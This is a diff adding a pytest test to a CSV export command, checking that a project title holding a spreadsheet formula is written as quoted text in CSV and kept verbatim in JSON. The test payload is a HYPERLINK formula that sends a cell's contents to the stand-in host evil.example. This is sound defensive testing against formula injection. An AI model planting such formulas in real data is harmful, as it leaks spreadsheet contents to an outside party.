@@ -125,3 +125,13 @@ def test_csv_export(reports):
 def test_unknown_cohort(camp):
     with pytest.raises(CommandError, match="No cohort with slug 'nope'"):
         export("nope")
+
+
+def test_csv_export_writes_formulas_as_text(reports, camp):
+    camp.project_a.title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    camp.project_a.save()
+    rows = list(csv.DictReader(StringIO(export("camp"))))
+    assert rows[0]["project"] == "'" + camp.project_a.title
+    assert rows[0]["submitted_at"] == "2025-03-17T21:59:00+08:00"
+    # JSON is data, not a spreadsheet: it keeps the title as typed.
+    assert json.loads(export("camp", "--format", "json"))[0]["project"] == camp.project_a.title
